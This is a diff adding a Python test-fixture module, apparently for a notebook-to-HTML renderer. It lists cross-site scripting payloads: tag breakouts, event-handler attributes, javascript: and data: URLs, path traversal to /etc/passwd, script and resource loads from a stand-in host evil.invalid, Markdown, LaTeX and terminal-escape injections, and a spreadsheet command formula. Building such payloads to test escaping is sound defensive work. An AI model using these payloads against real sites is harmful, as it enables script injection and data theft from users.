@@ -1,0 +1,93 @@
+"""Payloads of our own: what a notebook could hold to get out of its place in a page."""
+
+SCRIPT = "window.xss=1"
+_OUT = "<img src=x onerror=xss()>"
+
+#: Ends of every element and text mode the page is made of.
+BREAKOUTS = [
+    f"{end}{_OUT}"
+    for end in (
+        "</pre>", "</code></pre>", "</section>", "</div></div></section></main>", "</main></div></body></html>", "</title>",
+        "</style>", "</script>", "</textarea>", "</svg>", "</math>", "</iframe>", "</noscript>", "</template>", "</select>",
+        "</option></select>", "</xmp>", "</plaintext>", "</details>", "</summary></details>", "</figure>", "</span>", "</a>",
+        "</table>", "</td></tr></table>", "</caption></table>", "</h1></header>", "</p>", "</li></ul></section>", "-->", "--!>",
+        "]]>", "?>", "%>", "*/", "\"></a>", "'></a>", "\" x=\"></a>", "\">", "'>", "`>", "\\\">", "&quot;>", "&gt;", "{{/cells}}",
+        "</main><main id=notebook>", "</section><section class=\"cell\" id=\"cell-1\">", "</body><body onload=xss()>",
+    )
+]
+
+#: Attributes that would run, once inside a tag.
+ATTRIBUTES = [
+    "x\" onmouseover=xss() autofocus onfocus=xss() tabindex=1 \"", "x' onmouseover=xss() autofocus onfocus=xss() '",
+    "x onmouseover=xss() ", "x` onmouseover=xss() `", "\" style=\"position:fixed;inset:0\" x=\"", "\" id=\"cell-1", "' id='notebook",
+    "\" onanimationstart=xss() style=\"animation:x\" \"", "\tonclick=xss()\t", "\"/onload=xss()/\"", "x\" srcdoc=\"<script>xss()</script>",
+    "\" href=\"javascript:xss()\" \"", "language-x\" onclick=\"xss()", "x\n\" onclick=\"xss()\n", "x\u2028onclick=xss()",
+]
+
+#: Addresses, as link targets, picture sources, file names and plain text.
+ADDRESSES = [
+    "javascript:xss()", "JaVaScRiPt:xss()", " javascript:xss()", "java\tscript:xss()", "java\nscript:xss()", "\x01javascript:xss()",
+    "javascript&colon;xss()", "javascript&#58;xss()", "&#106;avascript:xss()", "javascript%3Axss()", "javascript://%0axss()",
+    "vbscript:xss()", "livescript:xss()", "data:text/html,<script>parent.xss()</script>", "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
+    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='xss()'/>", "blob:http://evil.invalid/1", "file:///etc/passwd",
+    "//evil.invalid/x.png", "\\\\evil.invalid\\x.png", "/\\evil.invalid/x.png", "https://evil.invalid/x.png", "http:evil.invalid/x.png",
+    "https:/evil.invalid/x.png", "///evil.invalid/x.png", "\thttps://evil.invalid/x.png", "../../../../../../etc/passwd", "..%2f..%2fetc%2fpasswd",
+    "..\\..\\etc\\passwd", "attachment:../../x.png", "attachment:\"onerror=xss()", "view-source:javascript:xss()", "jar:https://evil.invalid!/",
+    "filesystem:http://evil.invalid/x", "about:blank", "ws://evil.invalid/", "ftp://evil.invalid/x", "mailto:a?body=<script>xss()</script>",
+    "https://user:pass@evil.invalid/\"onerror=\"xss()", "#\"onclick=\"xss()", "?x=\"><script>xss()</script>",
+]
+
+#: Whole elements that run, ask or take over the page.
+ELEMENTS = [
+    "<script>xss()</script>", "<script src=https://evil.invalid/x.js></script>", "<script type=module>xss()</script>", "<ScRiPt>xss()</sCrIpT>",
+    "<script\n>xss()</script\n>", "<script/x>xss()</script>", "<<script>script>xss()</script>", "<scr<script>ipt>xss()</script>",
+    "<svg><script>xss()</script></svg>", "<svg onload=xss()>", "<svg><animate onbegin=xss() attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:xss()><text y=9>x</text></a></svg>", "<svg><use href=https://evil.invalid/x.svg#x></use></svg>",
+    "<svg><set attributeName=href to=javascript:xss()>", "<svg><foreignObject><iframe srcdoc='<script>parent.xss()</script>'></foreignObject></svg>",
+    "<svg><image href=https://evil.invalid/x.png></svg>", "<svg><style>@import 'https://evil.invalid/x.css';</style></svg>",
+    "<!DOCTYPE svg [<!ENTITY x '<script>xss()</script>'>]><svg>&x;</svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=xss()>\">",
+    "<math><maction actiontype=statusline#https://evil.invalid xlink:href=javascript:xss()>x</maction></math>",
+    "<math><mi xlink:href=javascript:xss() href=javascript:xss()>x</mi></math>", "<math><mtext></math><img src=x onerror=xss()>",
+    "<math><annotation-xml encoding=text/html><img src=x onerror=xss()></annotation-xml></math>", "<img src=x onerror=xss()>",
+    "<img src=https://evil.invalid/x.png>", "<img srcset='https://evil.invalid/x.png 1x'>", "<picture><source srcset=https://evil.invalid/x.png><img></picture>",
+    "<img/src=x/onerror=xss()>", "<img src=x:x onerror=xss()//", "<image src=x onerror=xss()>", "<input onfocus=xss() autofocus>",
+    "<input type=image src=https://evil.invalid/x.png>", "<video poster=https://evil.invalid/x.png src=https://evil.invalid/x.mp4 onerror=xss()></video>",
+    "<audio src=https://evil.invalid/x.mp3 onerror=xss() autoplay></audio>", "<iframe src=javascript:parent.xss()></iframe>",
+    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>", "<iframe src=https://evil.invalid/></iframe>", "<frameset onload=xss()><frame src=javascript:xss()>",
+    "<object data=javascript:xss()></object>", "<object data=https://evil.invalid/x.swf></object>", "<embed src=javascript:xss()>", "<applet code=x archive=https://evil.invalid/x.jar></applet>",
+    "<base href=https://evil.invalid/>", "<link rel=stylesheet href=https://evil.invalid/x.css>", "<link rel=preload as=image href=https://evil.invalid/x.png>",
+    "<link rel=dns-prefetch href=//evil.invalid>", "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
+    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<meta charset=utf-7>+ADw-script+AD4-xss()+ADw-/script+AD4-",
+    "<style>body{display:none}</style>", "<style>@import url(https://evil.invalid/x.css);</style>", "<style>*{background:url(https://evil.invalid/x.png)}</style>",
+    "<div style='background:url(https://evil.invalid/x.png)'>x</div>", "<div style='position:fixed;inset:0;z-index:99'>x</div>",
+    "<div style='width:expression(xss())'>x</div>", "<table background=https://evil.invalid/x.png><tr><td background=https://evil.invalid/y.png>x</table>",
+    "<body background=https://evil.invalid/x.png onload=xss()>", "<form action=https://evil.invalid/><button formaction=javascript:xss()>x</button></form>",
+    "<form id=notebook><input name=attributes><input name=parentNode></form>", "<a id=cell-1 name=cell-2 href=#>x</a>", "<p id=notebook>x</p><p id=sg-code>y</p>",
+    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=xss()>y</div>", "<dialog open onclose=xss()>x</dialog>",
+    "<details open ontoggle=xss()><summary>x</summary></details>", "<marquee onstart=xss()>x</marquee>", "<isindex action=javascript:xss()>",
+    "<template><script>xss()</script></template>", "<template shadowrootmode=open><script>xss()</script></template>",
+    "<x-y onclick=xss()>x</x-y>", "<noscript><p title=\"</noscript><img src=x onerror=xss()>\">", "<plaintext>", "<xmp><img src=x onerror=xss()></xmp>",
+    "<textarea><img title=\"</textarea><img src=x onerror=xss()>\">", "<title><img title=\"</title><img src=x onerror=xss()>\">", "<!--><img src=x onerror=xss()>-->",
+    "<!-- --!><img src=x onerror=xss()> -->", "<![CDATA[<img src=x onerror=xss()>]]>", "<?xml-stylesheet href='javascript:xss()'?>", "<!ELEMENT x ANY>",
+    "<table><tr><td></table></div></div></section></main>", "<h1>second</h1>", "<h1 id=notebook>x</h1><main>y</main>", "<ul><li></section></li></ul>",
+    "<p><table><p><svg><p>x", "<select><option></select></section>", "<b><i><a href=x><p><b><i>" * 12, "<div>" * 200 + "</section>", "</div>" * 60 + "x",
+]
+
+#: What Markdown, mathematics and terminals read as more than text.
+LANGUAGES = [
+    "[x](javascript:xss())", "[x](<javascript:xss()>)", "[x]: javascript:xss()\n\n[x]", "![x](https://evil.invalid/x.png)", "![x\" onerror=\"xss()](y)",
+    "[x](y \"a\\\" onclick=\\\"xss()\")", "<javascript:xss()>", "<https://evil.invalid/\"onclick=\"xss()>", "https://evil.invalid/<script>xss()</script>",
+    "```x\" onclick=\"xss()\nx\n```", "~~~ <script>xss()</script>\nx\n~~~", "`</code><img src=x onerror=xss()>`", "# <img src=x onerror=xss()>",
+    "# a\n# a\n# a-1\n# a", "# notebook\n\n# cell-1\n\n# sg-code", "[^1]\n\n[^1]: <script>xss()</script>", "[^\"><img>]\n\n[^\"><img>]: x",
+    "| a | b |\n|---|---|\n| </table><img src=x onerror=xss()> | c |", "- [ ] <input type=checkbox onclick=xss()>", "---\ntitle: </title><script>xss()</script>\n---\n",
+    "$\\href{javascript:xss()}{x}$", "$$\\text{</math><img src=x onerror=xss()>}$$", "$\\url{javascript:xss()}$", "$\\includegraphics{https://evil.invalid/x.png}$",
+    "$\\htmlStyle{position:fixed}{x}\\htmlId{notebook}{y}\\class{cell}{z}\\cssId{cell-1}{w}\\style{background:url(https://evil.invalid)}{v}$",
+    "$\\unicode{x3c}script\\unicode{x3e}$", "$\\color{red;background:url(https://evil.invalid)}{x}$", "$\\def\\x{\\x\\x}\\x$", "$a<b>c</b>$", "\\begin{equation}</math><script>xss()</script>\\tag{<b>}\\end{equation}",
+    "$$\\label{\"><img src=x onerror=xss()>}\\ref{\"><img>}$$", "\x1b]8;;javascript:xss()\x1b\\x\x1b]8;;\x1b\\", "\x1b]8;;https://evil.invalid/\"onclick=\"xss()\x07x\x1b]8;;\x07",
+    "\x1b[38;2;\"onclick=xss();1mx\x1b[0m", "\x1b[31m<script>xss()</script>\x1b[0m", "\x1b]0;</title><script>xss()</script>\x07x", "\x1b[1;31;4mx", "a\rb\x08\x08<img src=x onerror=xss()>",
+    "\x1b[999999999C\x1b[999999999Bx", "{{title}} {{{cells}}} {{>partial}}", "${xss()} #{xss()} <%= xss() %> {% raw %}", "\x00<script>xss()</script>", "\ufeff<script>xss()</script>",
+    "\u202e<script>xss()</script>", "＜script＞xss()＜/script＞", "\ud83d\ude00 \u0000 \ufffd \uffff", "=cmd|' /C calc'!A0", "'\"<>&`\\/=\n\r\t", "%3Cscript%3Exss()%3C/script%3E",
+    "&lt;script&gt;xss()&lt;/script&gt;", "&#60;script&#62;xss()&#60;/script&#62;", "\\u003cscript\\u003exss()\\u003c/script\\u003e",
+]
+
+PAYLOADS = BREAKOUTS + ATTRIBUTES + ADDRESSES + ELEMENTS + LANGUAGES
